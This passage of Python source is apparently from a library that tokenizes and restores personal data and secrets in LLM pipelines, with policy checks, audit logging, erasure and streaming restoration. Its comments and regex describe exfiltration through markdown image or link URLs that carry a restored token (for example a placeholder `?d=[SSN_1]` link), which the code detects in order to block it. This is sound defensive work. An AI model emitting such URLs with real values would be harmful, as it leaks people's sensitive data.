            decision = self.policy.decide(entry.entity_type, to, who, purpose, roles)
            if not decision.allowed:
                acc.refused.append((ref, decision.rule))
                continue
            value = self._vault.value(entry)
            if value is None:  # erased (crypto-shredded): the token stays a token
                acc.refused.append((ref, "erased"))
                continue
            parts.append(text[pos : c.start])
            parts.append(_escape_like(c.surface, value))
            acc.revealed.append((ref, decision.rule))
            pos = c.end
        if pos == start and not parts:
            return text
        parts.append(text[pos:])
        return "".join(parts)

    def _pattern_labels(self) -> frozenset[str]:
        return frozenset(self._vault.issued_labels) | _known_labels()

    def _audit_unmask(self, acc: _Acc, scope: str, to: str, who: str, purpose: str | None) -> None:
        for event, items in (("reveal", acc.revealed), ("refuse", acc.refused)):
            if not items:
                continue
            counts = Counter(r.entity_type for r, _ in items)
            self.audit.record(
                event,
                principal=who,
                scope=scope,
                recipient=to,
                purpose=purpose,
                entity_types=sorted(counts),
                counts=dict(counts),
                fingerprints=sorted({r.fingerprint for r, _ in items}),
                rule=",".join(sorted({rule for _, rule in items})),
            )
        if acc.foreign:
            self.audit.record(
                "foreign_token",
                principal=who,
                scope=scope,
                recipient=to,
                counts={"tokens": acc.foreign},
                detail="token-shaped text this scope never issued was left unchanged",
            )

    # ------------------------------------------------------------------ async twins
    async def amask(self, text: str, **kw: Any) -> str:
        return await asyncio.to_thread(functools.partial(self.mask, text, **kw))

    async def amask_result(self, text: str, **kw: Any) -> MaskResult:
        return await asyncio.to_thread(functools.partial(self.mask_result, text, **kw))

    async def amask_object(self, obj: Any, **kw: Any) -> Any:
        return await asyncio.to_thread(functools.partial(self.mask_object, obj, **kw))

    async def amask_value(self, value: Any, entity_type: str, **kw: Any) -> MaskResult:
        return await asyncio.to_thread(functools.partial(self.mask_value, value, entity_type, **kw))

    async def aunmask(self, text: str, **kw: Any) -> str:
        return await asyncio.to_thread(functools.partial(self.unmask, text, **kw))

    async def aunmask_result(self, text: str, **kw: Any) -> UnmaskResult:
        return await asyncio.to_thread(functools.partial(self.unmask_result, text, **kw))

    async def aunmask_object(self, obj: Any, **kw: Any) -> Any:
        return await asyncio.to_thread(functools.partial(self.unmask_object, obj, **kw))

    async def aforget(self, **kw: Any) -> int:
        return await asyncio.to_thread(functools.partial(self.forget, **kw))

    # ------------------------------------------------------------------ streams, tokens, leaks
    def stream_restorer(
        self,
        *,
        scope: str | None = None,
        to: str = "user",
        principal: str | None = None,
        purpose: str | None = None,
    ) -> StreamRestorer:
        """An incremental restorer: ``feed(chunk)`` returns what can be shown now, ``flush()`` the rest."""
        self._check_recipient(to)
        # The raw text already streamed (a bounded tail): restoring a piece must see the URL
        # it continues (``![](https://x/?d=`` in one chunk, ``[SSN_1])`` in the next) exactly
        # as unmask() of the whole text would.
        seen = [""]
        seen_lock = threading.Lock()

        def restore(piece: str, before: str) -> str:
            if not piece:
                return piece
            sc, who = self._scope(scope), self._who(principal)
            acc = _Acc()
            with seen_lock:
                history = seen[0] or before
                self._vault.sync()
                out = self._unmask_text(history + piece, sc, to, who, purpose, acc, start=len(history))
                seen[0] = _stream_tail(history + piece)
            self._audit_unmask(acc, sc, to, who, purpose)
            return out[len(history) :]

        def safe_cut(buf: str, cut: int) -> int:
            for m in self._pattern().finditer(buf):
                if m.start() < cut < m.end():
                    return m.start()
                if m.start() >= cut:
                    break
            return cut

        if self._surrogates_on():
            return StreamRestorer(
                restore, words_back=6, safe_cut=safe_cut, word_starts=surrogates.could_start
            )
        # The labels callable lets the restorer show a held run early once it provably
        # cannot become one of this guard's tokens (time to first character stays bounded).
        return StreamRestorer(restore, safe_cut=safe_cut, labels=self._pattern_labels)

    def find_tokens(self, text: str, *, scope: str | None = None) -> list[TokenRef]:
        """Tokens (and surrogates) in ``text`` that this scope issued, in order of appearance."""
        s = self._text(text)
        sc = self._scope(scope)
        self._vault.sync()
        cands = self._candidates(s)
        if not cands:
            return []
        entries = self._vault.lookup(sc, {c.canon for c in cands})
        return [
            TokenRef(
                e.token, e.entity_type, e.fingerprint, "surrogate" if c.kind == "surrogate" else "tokenize"
            )
            for c in cands
            if (e := entries.get(c.canon)) is not None
        ]

    def detect_leaks(self, text: str, *, scope: str | None = None) -> list[Any]:
        """Raw sensitive values present in ``text`` (findings; empty when only tokens remain).

        Surrogates are fakes, not leaks: reserved-range ones (emails at example.*, 555-01xx
        phones, test cards, ZZZZ IBANs) are skipped everywhere, generated names and
        addresses when ``scope`` issued them."""
        s = self._text(text)
        found = [f for f in self._scan(s) if TOKEN_RE.fullmatch(s[f.start : f.end]) is None]
        if not found or not self._surrogates_on():
            return found
        out = []
        for f in found:
            m = surrogates.SURROGATE_RE.fullmatch(s[f.start : f.end].strip())
            if m is not None:
                if m.lastgroup not in ("person", "address"):
                    continue
                if scope is not None and self._vault.lookup(
                    self._scope(scope), [surrogates.canonical_surrogate(m)]
                ):
                    continue
            out.append(f)
        return out

    def check_allowed(
        self, entity_type: str, to: str = "user", principal: str | None = None, purpose: str | None = None
    ) -> Decision:
        """The policy decision for one type and recipient (no value involved, nothing audited)."""
        self._check_recipient(to)
        who = self._who(principal)
        return self.policy.decide(entity_type, to, who, purpose, self.policy.roles_of(who))

    # ------------------------------------------------------------------ erasure and keys
    def forget(
        self, *, scope: str | None = None, subject: str | None = None, principal: str | None = None
    ) -> int:
        """Crypto-shred a scope's (or a data subject's) key and delete its vault rows.

        Afterwards those tokens can never be revealed again: ``unmask`` leaves them as
        tokens.  Returns how many vault entries were erased; the erasure is audited.
        """
        if scope is None and subject is None:
            raise InputError("forget() needs scope= or subject=")
        if scope is not None and subject is not None:
            # A subject's key serves every scope, so its erasure is global; accepting a
            # scope too would erase more than asked and audit it as if it were narrower.
            raise InputError(
                "forget() takes scope= or subject=, not both (a subject is erased in every scope)"
            )
        sc = self._scope(scope) if scope is not None else None
        subject = self._subject(subject)
        n = self._vault.forget(scope=sc, subject=subject)
        self.audit.record(
            "forget",
            principal=self._who(principal),
            scope=sc,
            counts={"entries": n},
            detail="subject " + self._vault.subject_id(subject) if subject is not None else "scope",
        )
        return n

    def rotate_key(self, new_key: str | bytes, *, principal: str | None = None) -> int:
        """Re-wrap every data key under ``new_key`` (the values are not re-encrypted).

        After rotating, configure ``new_key`` as ``GUARDLLM_KEY`` for every process;
        ``GUARDLLM_KEY_PREVIOUS`` may hold the old key while processes switch over.
        Returns how many data keys were re-wrapped.
        """
        new = parse_key(new_key, source="new key")
        old = self._vault.keyring
        n = self._vault.rotate(KeyRing(new, old._master, ephemeral=old.ephemeral))
        self.audit.record(
            "key_rotate",
            principal=self._who(principal),
            counts={"data_keys": n},
            detail=f"{old.master_id} -> {self._vault.keyring.master_id}",
        )
        return n

    # ------------------------------------------------------------------ lineage
    @property
    def recorder(self) -> Any:
        """The :class:`guardllm.lineage.LineageRecorder` writing to this Guard's store."""
        with self._lock:
            if self._recorder is None:
                from guardllm.lineage import LineageRecorder

                self._recorder = LineageRecorder(self._store)
            return self._recorder

    def find_fingerprint(self, fingerprint: str) -> list[tuple[str, Any]]:
        """Every ``(run_id, edge)`` a token fingerprint passed through, oldest first.

        "Where did this customer's email go?" without the email: pass
        ``guard.mask_result(...).entities[i].fingerprint`` (or one from an audit record);
        each :class:`~guardllm.lineage.graph.Edge` names the run, the step it left and
        the one it reached, and whether it crossed masked or revealed.  A string that is
        not an ``fp_`` fingerprint raises :class:`ValueError` without being echoed.
        """
        from guardllm.lineage import find_fingerprint

        return find_fingerprint(self._store, fingerprint)

    @contextlib.contextmanager
    def batch(self) -> Iterator[None]:
        """Commit the store writes made inside (audit, lineage, new tokens) together.

        See :meth:`guardllm.stores.base.Store.batch`: each write keeps its own
        all-or-nothing behaviour and what succeeded commits even if the block raises.
        If the commit itself fails, the vault's caches are dropped too (they may name
        tokens that were never stored) and :class:`VaultError` propagates: fail closed.
        """
        try:
            with self._store.batch():
                yield
        except VaultError:
            self._vault.drop_caches()
            raise

    def lineage(self, run_id: Any) -> Any:
        """The lineage graph of one root run."""
        from guardllm.lineage import LineageGraph

        return LineageGraph.from_store(self._store, str(run_id))

    # ------------------------------------------------------------------ integrations (thin, lazy)
    def wrap_tool(self, tool: Any, reveal: Sequence[str] | None = None, **kw: Any) -> Any:
        from guardllm.integrations import langchain as lc

        return lc.wrap_tool(self, tool, reveal=reveal, **kw)

    def wrap_retriever(self, retriever: Any, **kw: Any) -> Any:
        from guardllm.integrations import langchain as lc

        return lc.wrap_retriever(self, retriever, **kw)

    def wrap_chat_model(self, model: Any, **kw: Any) -> Any:
        from guardllm.integrations import langchain as lc

        return lc.wrap_chat_model(self, model, **kw)

    def callback_handler(self, **kw: Any) -> Any:
        from guardllm.integrations import langchain as lc

        return lc.callback_handler(self, **kw)

    def middleware(self, **kw: Any) -> Any:
        from guardllm.integrations import langchain as lc

        return lc.middleware(self, **kw)

    def sql_tool(self, db: Any, reveal: Sequence[str] | None = None, **kw: Any) -> Any:
        from guardllm.integrations.langchain.sql import sql_tool

        return sql_tool(self, db, reveal=reveal, **kw)

    def close(self) -> None:
        self._store.close()


@dataclass(frozen=True)
class _WholeValue:
    entity_type: str
    start: int
    end: int
    text: str = field(repr=False)


def _as_mapping(obj: Any) -> Mapping[str, Any] | None:
    mapping = getattr(obj, "_mapping", None)
    if isinstance(mapping, Mapping):
        return mapping
    if dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        return {f.name: getattr(obj, f.name) for f in dataclasses.fields(obj)}
    dump = getattr(obj, "model_dump", None)
    if callable(dump) and hasattr(type(obj), "model_fields"):
        return dump()
    return None


@dataclass(frozen=True)
class _Span:
    entity_type: str
    start: int
    end: int


def _merge_overlaps(findings: Sequence[Any]) -> list[Any]:
    """Findings (sorted by start) with overlapping ones merged into one span over their union.

    Plug-in detectors (Presidio) return overlaps; masking only the first of two overlapping
    findings left the tail of the other raw ("card 4111" masked, "1111 1111 1111" not).  The
    merged span takes a secret type if any finding is one, else the longest finding's type."""
    out: list[Any] = []
    group: list[Any] = []
    end = -1
    for f in [*findings, None]:
        if f is not None and group and f.start < end:
            group.append(f)
            end = max(end, f.end)
            continue
        if len(group) == 1:
            out.append(group[0])
        elif group:
            secrets_ = [g for g in group if is_secret(g.entity_type)]
            best = max(secrets_ or group, key=lambda g: g.end - g.start)
            out.append(_Span(best.entity_type, group[0].start, end))
        if f is not None:
            group, end = [f], f.end
    return out


def _bracketed(text: str, start: int, end: int) -> bool:
    """Whether ``text[start:end]`` sits between an opening and a closing punctuation mark
    (full-width brackets, CJK lenticular brackets, ...): a token form, not a word that looks
    like a label."""
    return (
        start > 0
        and end < len(text)
        and unicodedata.category(text[start - 1]) == "Ps"
        and unicodedata.category(text[end]) == "Pe"
    )


def _tenant_prefix(tenant: str) -> str:
    """The tenant as it prefixes scopes and subjects (``<tenant>/<name>``), with no ``/`` left
    in it: tenant ``acme/eu`` scope ``t1`` must not be tenant ``acme`` scope ``eu/t1``.
    ``%`` is escaped too so the encoding stays one-to-one; tenant names with neither
    (all names in use before) are unchanged, so existing stores read as before."""
    return tenant.replace("%", "%25").replace("/", "%2F")


def _fmt_path(path: Sequence[Any]) -> str:
    out = ""
    for p in path:
        out += f"[{p}]" if isinstance(p, int) else ("." if out else "") + str(p)
    return out or "<root>"


def keep_last4(value: str) -> str:
    """``mask`` action: every letter/digit but the last 4 becomes ``*``; separators stay."""
    alnum = [i for i, ch in enumerate(value) if ch.isalnum()]
    keep = set(alnum[-4:]) if len(alnum) > 4 else set()
    return "".join(ch if (i in keep or not ch.isalnum()) else "*" for i, ch in enumerate(value))


def _escape_like(surface: str, value: str) -> str:
    """Encode a revealed value the way the token was encoded (JSON / HTML escapes)."""
    low = surface.lower()
    if low.startswith("\\u005b"):
        return json.dumps(value, ensure_ascii=False)[1:-1]
    if low.startswith("&"):
        return html.escape(value, quote=True)
    if low.startswith("%5b"):
        return urllib.parse.quote(value, safe="")
    return value


# Where a URL (or something a renderer fetches) starts, and how far it runs:
#   scheme://... and www.... up to whitespace (autolinks, bare URLs, reference definitions);
#   Markdown link/image targets "](" up to whitespace or, for the <...> form, up to ">";
#   CSS url(...);  an open HTML tag "<img ...>" as a whole (src, href, srcset, style, ...).
_URL_CONTEXT_RE = re.compile(
    r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?//\S*"
    r"|(?<![A-Za-z0-9_])www\.\S*"
    r"|\]\(\s*<[^>\n]*"
    r"|\]\(\S*"
    r"|(?i:url)\([^)\n]*"
    r"|<[A-Za-z][^<>]*",
)


def _url_spans(text: str) -> list[tuple[int, int]]:
    """Sorted, non-overlapping spans of ``text`` that are URL context (see ``_URL_CONTEXT_RE``)."""
    if "/" not in text and "(" not in text and "<" not in text and "www." not in text.lower():
        return []
    return [(m.start(), m.end()) for m in _URL_CONTEXT_RE.finditer(text)]


_STREAM_TAIL = 2048  # raw characters of history kept for URL context (more if a URL is still open)
_STREAM_TAIL_MAX = 1 << 20


def _stream_tail(text: str) -> str:
    """What a stream restorer keeps of the raw text streamed so far: the last
    ``_STREAM_TAIL`` characters, or from the start of a URL context still open at the
    end (an ``<img src=`` padded past the tail must not escape the check), bounded."""
    if len(text) <= 2 * _STREAM_TAIL:
        return text
    keep = len(text) - _STREAM_TAIL
    spans = _url_spans(text)
    if spans and spans[-1][1] >= len(text):
        keep = min(keep, spans[-1][0])
    return text[max(keep, len(text) - _STREAM_TAIL_MAX) :]


def _inside(spans: list[tuple[int, int]], start: int) -> bool:
    """Whether position ``start`` lies in one of the sorted ``spans``.

    Only where the token starts counts: a URL context that begins inside the token
    (``[SSN_1](`` as link text) depends on what follows it, which a stream has not seen yet."""
    i = bisect.bisect_right(spans, (start, 1 << 62)) - 1
    return i >= 0 and spans[i][0] <= start < spans[i][1]


@functools.lru_cache(maxsize=1)
def _known_labels() -> frozenset[str]:
    types: Iterable[str] = _KNOWN_TYPES
    try:
        from guardllm.detect import types as dt

        types = [*types, *getattr(dt, "ALL_TYPES", ())]
    except ImportError:
        pass
    return frozenset(label_for(t) for t in types if not is_secret(t))


_WINDOW_BEFORE, _WINDOW_AFTER = 96, 48
# Values with no keys inside, skipped without a call while dict keys are masked.
_LEAVES = frozenset({str, int, float, bool, type(None), bytes})
# Payloads remembered as masking to themselves, per guard (see Guard._mask_parsed).
_UNCHANGED_MAX = 16384
# Dict keys remembered as clean (see Guard._remember_clean_key): how many, how long.
_CLEAN_KEYS_MAX, _CLEAN_KEY_LEN = 2048, 64
# Every character a token match can hold (label, ``_``, digits, each open/close form),
# with the pattern's IGNORECASE so case-folded look-alikes count too.
_RUN_CHAR = re.compile(r"[A-Za-z0-9_\\&#;%\[\]]", re.IGNORECASE)
_RUN = re.compile(r"[A-Za-z0-9_\\&#;%\[\]]*", re.IGNORECASE)


# Tokens exactly as guardllm writes them (``[EMAIL_1]``), and the ``_<digit>`` spot every
# token form holds exactly once (a label segment never starts with a digit).
_CANONICAL_TOKEN = re.compile(r"\[([A-Z][A-Z0-9]*(?:_[A-Z][A-Z0-9]*)*)_([0-9]{1,9})\]")
_SPOT = re.compile(r"_[0-9]")


def _canonical_candidates(text: str, start: int) -> list[_Candidate] | None:
    """The tolerant scan's answer, found the cheap way -- or ``None`` when it cannot be.

    When every ``_<digit>`` spot of ``text[start:]`` lies inside a canonical token with
    no token character on either side, the tolerant scan can only find those tokens,
    span for span; one C-level regex pass then replaces its per-spot Python windows
    (text that went through :meth:`Guard.mask` is nearly always like this).  Anything
    else -- escaped, bare or lower-case tokens, look-alikes, a spot outside a token --
    returns ``None`` and the caller runs the tolerant scan.
    """
    spots = len(_SPOT.findall(text, start))
    if not spots:
        return []
    out: list[_Candidate] = []
    n = len(text)
    for m in _CANONICAL_TOKEN.finditer(text, start):
        s, e = m.span()
        if (s > 0 and _RUN_CHAR.match(text, s - 1)) or (e < n and _RUN_CHAR.match(text, e)):
            return None
        if e - s > _WINDOW_AFTER:  # longer than any issued token: the windows decide
            return None
        out.append(_Candidate(s, e, canonical(m.group(1), m.group(2)), "bracket", m.group(0)))
    return out if len(out) == spots else None


@functools.lru_cache(maxsize=64)
def _token_pattern(labels: frozenset[str]) -> re.Pattern[str]:
    """Bracketed tokens in any tolerated form | bare tokens of the given labels."""
    bare = bare_token_re(labels)
    alts = [f"(?P<tok>{TOKEN_RE.pattern})"]
    if bare is not None:
        alts.append(
            "(?P<bare>" + bare.pattern.replace("(?P<label>", "(?P<blabel>").replace("(?P<n>", "(?P<bn>") + ")"
        )
    return re.compile("|".join(alts), re.IGNORECASE)


@functools.lru_cache(maxsize=64)
def _combined_pattern(labels: frozenset[str], with_surrogates: bool) -> re.Pattern[str]:
    """One compiled pattern: bracketed tokens | bare tokens of known labels | surrogates."""
    tok = TOKEN_RE.pattern
    bare = bare_token_re(labels)
    alts = [f"(?P<tok>{tok})"]
    if bare is not None:
        alts.append(
            "(?P<bare>" + bare.pattern.replace("(?P<label>", "(?P<blabel>").replace("(?P<n>", "(?P<bn>") + ")"
        )
    if with_surrogates:
        inner = re.sub(r"\(\?P<\w+>", "(?:", surrogates.SURROGATE_RE.pattern)
        alts.append(f"(?P<sur>{inner})")
    return re.compile("|".join(alts), re.IGNORECASE)


__all__ = ["DEFAULT_SCOPE", "Guard", "MaskResult", "UnmaskResult", "default_principal", "keep_last4"]
